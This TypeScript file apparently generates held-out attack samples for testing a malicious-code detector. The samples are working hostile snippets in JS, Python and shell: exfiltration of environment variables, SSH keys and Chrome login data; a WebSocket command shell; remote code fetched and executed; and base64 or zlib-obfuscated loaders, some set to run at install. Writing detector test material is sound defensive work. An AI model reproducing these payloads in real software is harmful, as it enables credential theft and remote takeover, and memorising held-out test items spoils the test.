import { type Draw, hidden } from './draw.ts'
import { families } from './family.ts'

const wrap = (draw: Draw, body: string): string => draw.filler('js') + body + draw.filler('js')
const wrapPython = (draw: Draw, body: string): string => draw.filler('python') + body + draw.filler('python')

/** Attacks that were written with the rules settled, and measured once. */
export const HELD_ATTACKS = families(
  { isAttack: true, isHeld: true },
  {
    'sends variables through a helper': [
      'js',
      (draw) =>
        wrap(
          draw,
          `function deliver(address, what) {\n  return axios.post(address, what)\n}\nconst all = {}\nfor (const key of Object.keys(process.env)) all[key] = process.env[key]\ndeliver('https://${draw.host()}/c', Object.assign({}, process.env, all))\n`,
        ),
    ],
    'imports an address of data': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const code = Buffer.from('${hidden(draw)}', 'base64').toString()\nimport('data:text/javascript,' + encodeURIComponent(code))\n`,
        ),
    ],
    'inflates in a sandbox': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const vm = require('vm'), zlib = require('zlib')\nconst text = zlib.inflateSync(Buffer.from("${hidden(draw)}", 'base64')).toString()\nvm.runInNewContext(text, { require, process })\n`,
        ),
    ],
    'takes orders': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const { exec } = require('child_process')\nconst socket = new WebSocket('wss://${draw.host()}')\nsocket.addEventListener('message', (event) => {\n  exec(event.data, (error, out) => socket.send(out))\n})\n`,
        ),
    ],
    'compiles a module': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const Module = require('module')\nconst m = new Module('x')\nm._compile(Buffer.from('${hidden(draw, 'hex')}', 'hex').toString('utf8'), 'x')\n`,
        ),
    ],
    'sends browser data by a bot': [
      'js',
      (draw) =>
        wrap(
          draw,
          `const root = path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Login Data')\nconst form = new FormData()\nform.append('document', fs.createReadStream(root))\nfetch('https://api.telegram.org/bot${String(draw.number(9)).repeat(9)}:${'aB3'.repeat(12)}/sendDocument', { method: 'POST', body: form })\n`,
        ),
    ],
    'hides a command': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const parts = ['Y3VybCA=', 'aHR0cDovL2V4YW1wbGU=', 'L3g=']\nconst command = parts.map((part) => Buffer.from(part, 'base64').toString()).join('')\nrequire('child_process').execSync(command + ' | sh')\n`,
        ),
    ],
    'writes keys for itself': [
      'js at install',
      (draw) =>
        wrap(
          draw,
          `const file = os.homedir() + '/.ssh/authorized_keys'\nfetch('http://91.3.${draw.number(200)}.8/k').then((r) => r.text()).then((key) => fs.appendFileSync(file, key))\n`,
        ),
    ],
    'imports everything at once': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `__import__('builtins').exec(__import__('zlib').decompress(__import__('base64').b64decode('${hidden(draw)}')))\n`,
        ),
    ],
    'compiles an answer': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import httpx\nanswer = httpx.get("https://${draw.host()}/s")\nexec(compile(answer.text, "<s>", "exec"))\n`,
        ),
    ],
    'fetches by a command': [
      'python at install',
      (draw) =>
        wrapPython(
          draw,
          `import os\nos.system("wget -q http://93.4.${draw.number(200)}.9/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &")\n`,
        ),
    ],
    'asks for names in Python': [
      'python at install',
      (draw) =>
        wrapPython(
          draw,
          `import socket, os, base64\npart = base64.b32encode((os.getlogin() + "@" + socket.gethostname()).encode()).decode().strip("=")\nsocket.gethostbyname(part + ".${draw.host()}")\n`,
        ),
    ],
    'uploads keys': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import glob, os, http.client\nbodies = []\nfor name in glob.glob(os.path.expanduser("~/.ssh/id_*")):\n    with open(name) as handle:\n        bodies.append(handle.read())\nlink = http.client.HTTPSConnection("${draw.host()}")\nlink.request("POST", "/", "".join(bodies))\n`,
        ),
    ],
    'sends the environment by a socket': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import socket, json, os\ns = socket.socket()\ns.connect(("${draw.host()}", 8443))\ns.sendall(json.dumps(dict(os.environ)).encode())\n`,
        ),
    ],
    'fetches with PowerShell': [
      'shell',
      (draw) => `powershell -Command "IEX (New-Object Net.WebClient).DownloadString('https://${draw.host()}/p.ps1')"`,
    ],
    'decodes in a shell': ['shell', (draw) => `echo ${hidden(draw)} | base64 -d | sh`],
  },
)
